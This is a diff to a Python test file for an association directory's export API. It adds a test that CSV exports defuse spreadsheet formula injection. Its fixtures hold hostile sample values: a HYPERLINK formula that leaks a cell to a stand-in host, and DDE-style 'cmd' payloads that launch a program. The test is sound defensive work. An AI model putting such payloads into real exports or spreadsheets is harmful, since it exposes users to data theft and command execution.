@@ -8,7 +8,7 @@ import io
 import pytest
 from nats.js import JetStreamContext
 
-from tests.annuaire.conftest import Client, mission_body, read_facts
+from tests.annuaire.conftest import Client, mission_body, read_facts, unique_name
 from vieasso.annuaire.adapters.exports import ASSOCIATION_COLUMNS, MISSION_COLUMNS
 
 pytestmark = pytest.mark.nats
@@ -102,3 +102,31 @@ async def test_private_contact_never_appears_in_exports_lists_details_or_facts(
         assert SECRET_EMAIL not in text, subject
         assert "token_hash" not in text, subject
         assert "private_contact" not in text, subject
+
+
+FORMULA = '=HYPERLINK("https://exemple.invalid/?leak="&A1,"Cliquez ici")'
+
+
+async def test_csv_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(
+    annuaire: Client,
+) -> None:
+    name = f"{FORMULA} {unique_name('')}"
+    slug, auth = await annuaire.validated(name=name, short_name="@SUM(1+1)*cmd|' /C calc'!A0")
+    url = f"/api/associations/{slug}/missions"
+    title = "+33 6 00 00 00 00"
+    created = await annuaire.http.post(
+        url, json=mission_body(title=title, how_to_apply="-2+3+cmd|' /C calc'!A0"), headers=auth
+    )
+    assert created.status_code == 201, created.text
+    _, associations = await _rows(annuaire, "/export/associations.csv")
+    row = next(r for r in associations if r["slug"] == slug)
+    assert row["name"] == f"'{name}"
+    assert row["short_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["employs_staff"] in {"oui", "non", ""}
+    _, missions = await _rows(annuaire, "/export/missions.csv")
+    mission = next(r for r in missions if r["id"] == created.json()["id"])
+    assert mission["title"] == f"'{title}"
+    assert mission["how_to_apply"] == "'-2+3+cmd|' /C calc'!A0"
+    assert mission["association_slug"] == slug
+    json_export = (await annuaire.http.get("/export/associations.json")).json()
+    assert next(a for a in json_export if a["slug"] == slug)["name"] == name
